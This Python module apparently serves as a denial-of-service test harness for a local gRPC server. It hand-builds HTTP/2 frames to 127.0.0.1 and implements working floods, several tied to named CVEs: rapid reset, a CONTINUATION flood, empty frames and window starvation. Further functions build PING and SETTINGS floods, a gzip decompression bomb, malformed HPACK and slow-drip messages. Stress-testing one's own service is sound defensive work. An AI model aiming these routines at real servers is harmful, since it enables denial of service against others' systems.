"""HTTP/2 as no honest client speaks it: frames made by hand, over a bare socket."""

import contextlib
import random
import socket
import struct
import time
import zlib
from collections.abc import Callable, Iterator, Sequence
from itertools import count, islice

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = (
    *(0x0, 0x1, 0x2, 0x3, 0x4, 0x6, 0x8, 0x9),
)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
HEADER_TABLE_SIZE, MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE = 0x1, 0x3, 0x4
LIST = "/penchant.v1.EntityService/ListEntities"
HEALTH = "/grpc.health.v1.Health/Check"
OK = b"grpc-status\x010"
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_SECS = 20.0
_BLOCK = 16 * 1024 * 1024


class Connection:
    """One connection; what the server says is read and dropped when it is asked to."""

    def __init__(self, port: int) -> None:
        self._socket = socket.create_connection(("127.0.0.1", port), _SECS)

    def __enter__(self) -> "Connection":
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.close()

    def begin(self, settings: bytes = b"") -> None:
        self.send(_PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, raw: bytes) -> None:
        self._socket.sendall(raw)

    def read_frame(self) -> tuple[int, int, bytes]:
        """Kind, stream and payload of the next frame."""
        head = self._read(9)
        payload = self._read(int.from_bytes(head[:3], "big"))
        return head[3], int.from_bytes(head[5:], "big"), payload

    def _read(self, size: int) -> bytes:
        read = b""
        while len(read) < size:
            part = self._socket.recv(size - len(read))
            if not part:
                raise ConnectionError("the server hung up")
            read += part
        return read

    def drain(self, seconds: float) -> bytes:
        """What comes until the server is silent for so long, or hangs up."""
        self._socket.settimeout(seconds)
        read = bytearray()
        with contextlib.suppress(TimeoutError):
            while part := self._socket.recv(1 << 16):
                read += part
        self._socket.settimeout(_SECS)
        return bytes(read)


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + _u32(stream) + payload


def _u32(number: int) -> bytes:
    return struct.pack(">I", number)


def setting(name: int, value: int) -> bytes:
    return struct.pack(">HI", name, value)


def _text(text: bytes) -> bytes:
    """HPACK: a length with a prefix of seven bits, and plain bytes."""
    if len(text) < 0x7F:
        return bytes([len(text)]) + text
    rest, out = len(text) - 0x7F, bytearray([0x7F])
    while rest > 0x7F:
        out.append(rest & 0x7F | 0x80)
        rest >>= 7
    return bytes([*out, rest]) + text


def block(path: str, extra: Sequence[tuple[bytes, bytes]] = ()) -> bytes:
    """The headers of a gRPC call, none of them kept in tables."""
    pairs = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path.encode()),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        *extra,
    )
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in pairs)


def call(stream: int, path: str, message: bytes | None, *extra: tuple[bytes, bytes]) -> bytes:
    """A call's frames; without a message it stays open."""
    start = frame(HEADERS, END_HEADERS, stream, block(path, extra))
    if message is None:
        return start
    return start + data(stream, b"\0" + _u32(len(message)) + message, last=True)


def data(stream: int, content: bytes, *, last: bool) -> bytes:
    size = 16_384
    parts = [content[at : at + size] for at in range(0, len(content), size)] or [b""]
    flags = [0] * (len(parts) - 1) + [END_STREAM if last else 0]
    return b"".join(frame(DATA, f, stream, p) for f, p in zip(flags, parts, strict=True))


def _streams(number: int) -> Iterator[int]:
    return islice(count(1, 2), number)


def rapid_reset(connection: Connection, size: int) -> None:
    """CVE-2023-44487: calls that are taken back at once."""
    connection.begin()
    cancel = _u32(8)
    for stream in _streams(20 * size):
        connection.send(call(stream, LIST, b"") + frame(RST_STREAM, 0, stream, cancel))


def open_streams(connection: Connection, size: int) -> None:
    """Calls that never send their message."""
    connection.begin()
    for stream in _streams(5 * size):
        connection.send(call(stream, LIST, None))
    connection.drain(2)


def calls_without_message(connection: Connection, size: int) -> None:
    """Calls that end before their message."""
    connection.begin()
    for stream in _streams(5 * size):
        start = frame(HEADERS, END_HEADERS | END_STREAM, stream, block(LIST))
        connection.send(start)
    connection.drain(2)


def large_headers(connection: Connection, size: int) -> None:
    """A header of a megabyte in CONTINUATION frames."""
    connection.begin()
    for stream in _streams(max(1, size // 50)):
        content = block(LIST, [(b"x-much", b"a" * 1_000_000)])
        parts = [content[at : at + 16_384] for at in range(0, len(content), 16_384)]
        connection.send(frame(HEADERS, END_STREAM, stream, parts[0]))
        for part in parts[1:-1]:
            connection.send(frame(CONTINUATION, 0, stream, part))
        connection.send(frame(CONTINUATION, END_HEADERS, stream, parts[-1]))
    connection.drain(1)


def endless_headers(connection: Connection, size: int) -> None:
    """CVE-2024-27316 and its kin: CONTINUATION frames that never end."""
    connection.begin()
    connection.send(frame(HEADERS, 0, 1, block(LIST)))
    part = frame(CONTINUATION, 0, 1, block(LIST, [(b"x-more", b"b" * 16_000)])[-16_100:])
    for _ in range(10 * size):
        connection.send(part)


def settings_flood(connection: Connection, size: int) -> None:
    """SETTINGS whose acknowledgements nobody reads."""
    connection.begin()
    one = frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65_535))
    for _ in range(size):
        connection.send(one * 50)


def ping_flood(connection: Connection, size: int) -> None:
    """PINGs whose answers nobody reads."""
    connection.begin()
    for _ in range(size):
        connection.send(frame(PING, 0, 0, b"12345678") * 50)


def empty_frames(connection: Connection, size: int) -> None:
    """CVE-2019-9518: DATA, PRIORITY and unknown frames with nothing in them."""
    connection.begin()
    connection.send(call(1, LIST, None))
    one = frame(DATA, 0, 1, b"") + frame(PRIORITY, 0, 1, bytes(5)) + frame(0xEE, 0, 1, b"")
    for _ in range(size):
        connection.send(one * 20)


def starved_windows(connection: Connection, size: int) -> None:
    """Answers that may not be sent, since the caller's window is shut (CVE-2019-9517)."""
    connection.begin(setting(INITIAL_WINDOW_SIZE, 0))
    for stream in _streams(size):
        connection.send(call(stream, LIST, b""))
    connection.drain(2)


def window_overflow(connection: Connection, size: int) -> None:
    """Windows that grow beyond what there may be."""
    connection.begin()
    connection.send(call(1, LIST, None))
    for _ in range(size):
        connection.send(frame(WINDOW_UPDATE, 0, 0, _u32(2**31 - 1)) * 2)
        connection.send(frame(WINDOW_UPDATE, 0, 1, _u32(2**31 - 1)) * 2)


def bad_header_tables(connection: Connection, size: int) -> None:
    """HPACK that points to nothing, grows its table, and ends in the middle."""
    connection.begin(setting(HEADER_TABLE_SIZE, 2**32 - 1))
    blocks = (b"\xff\xff\xff\xff\x0f", b"\x3f\xff\xff\xff\xff\x0f", b"\x40\x7f", b"\x80", b"\0\xff")
    for stream, content in zip(_streams(len(blocks)), blocks, strict=True):
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, content))


def noise(connection: Connection, size: int) -> None:
    """Frames of random kinds, flags, streams and contents."""
    chance = random.Random(size)
    connection.begin()
    for _ in range(20 * size):
        content = chance.randbytes(chance.choice((0, 1, 4, 5, 6, 8, 100)))
        kind, flags = chance.randrange(12), chance.randrange(256)
        connection.send(frame(kind, flags, chance.choice((0, 1, 2, 3, 2**31 - 1)), content))


def other_protocols(connection: Connection, size: int) -> None:
    """HTTP/1.1, which gRPC does not speak."""
    connection.send(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n" * size)
    connection.drain(1)


def dripping(connection: Connection, size: int) -> None:
    """A message that comes byte by byte, and one whose length lies."""
    connection.begin()
    connection.send(call(1, LIST, None) + data(1, b"\0" + _u32(4 << 20), last=False))
    for _ in range(size):
        connection.send(frame(DATA, 0, 1, b"\0"))
        time.sleep(0.001)
    connection.send(call(3, LIST, None) + data(3, b"\0" + _u32(2**32 - 1) + b"abc", last=True))
    connection.send(call(5, LIST, None) + data(5, b"\xff" + _u32(3) + b"abc", last=True))
    connection.drain(1)


def strange_metadata(connection: Connection, size: int) -> None:
    """Header values that are no text, long, doubled, and deadlines that are none."""
    connection.begin()
    extras = (
        (b"x-tenant-id", b"\xff\xfe\0"),
        (b"x-tenant-id-bin", b"!!!"),
        (b"x-request-id", b"r" * 4000),
        (b"authorization", b"Bearer \xc3\x28"),
        (b"grpc-timeout", b"99999999999H"),
        (b"grpc-timeout", b"-1S"),
        (b"grpc-timeout", b"x"),
        (b"grpc-encoding", b"nobody-knows"),
        (b"grpc-encoding", b"snappy"),
        (b"content-type", b"text/plain"),
        (b":path", b"/"),
        (b"UPPER", b"case"),
        (b"connection", b"keep-alive"),
        (b"content-length", b"9"),
    )
    for stream, extra in zip(_streams(len(extras)), extras, strict=True):
        connection.send(call(stream, LIST, b"", extra))
    connection.drain(1)


def gzip_of_zeros(size: int) -> bytes:
    """As many bytes of nothing, a thousandth as long."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    head = packer.compress(bytes(_BLOCK)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(_BLOCK)) + packer.flush(zlib.Z_FULL_FLUSH)
    # After a full flush nothing refers back, so a block may be had again and again.
    return head + again * (size // _BLOCK - 1) + packer.flush()


def bomb(connection: Connection, size: int) -> bytes:
    """A compressed message that unpacks to so many MiB; what the server says to it."""
    windows = {0: 65_535, 1: 65_535}
    initial = windows[1]
    heard = bytearray()
    connection.begin()
    connection.send(frame(HEADERS, END_HEADERS, 1, block(LIST, [(b"grpc-encoding", b"gzip")])))
    content = gzip_of_zeros(size << 20)
    left = memoryview(b"\x01" + _u32(len(content)) + content)
    while left:
        part = left[: min(16_384, windows[0], windows[1])]
        if part:
            left = left[len(part) :]
            connection.send(frame(DATA, 0 if left else END_STREAM, 1, bytes(part)))
            windows = {stream: window - len(part) for stream, window in windows.items()}
            continue
        kind, stream, payload = connection.read_frame()
        heard += payload
        if kind == WINDOW_UPDATE:
            windows[stream] += int.from_bytes(payload, "big")
        elif kind == SETTINGS:
            for at in range(0, len(payload), 6):
                name, value = struct.unpack_from(">HI", payload, at)
                if name == INITIAL_WINDOW_SIZE:
                    windows[1] += value - initial
                    initial = value
        elif kind in {HEADERS, RST_STREAM} and stream == 1:
            break
    return bytes(heard) + connection.drain(2)


Flood = Callable[[Connection, int], None]
FLOODS: tuple[Flood, ...] = (
    rapid_reset,
    open_streams,
    calls_without_message,
    large_headers,
    endless_headers,
    settings_flood,
    ping_flood,
    empty_frames,
    starved_windows,
    window_overflow,
    bad_header_tables,
    noise,
    other_protocols,
    dripping,
    strange_metadata,
)


def flood(port: int, what: Flood, size: int) -> None:
    """One flood over one connection; to be hung up on is what it deserves."""
    with Connection(port) as connection, contextlib.suppress(ConnectionError, TimeoutError):
        what(connection, size)
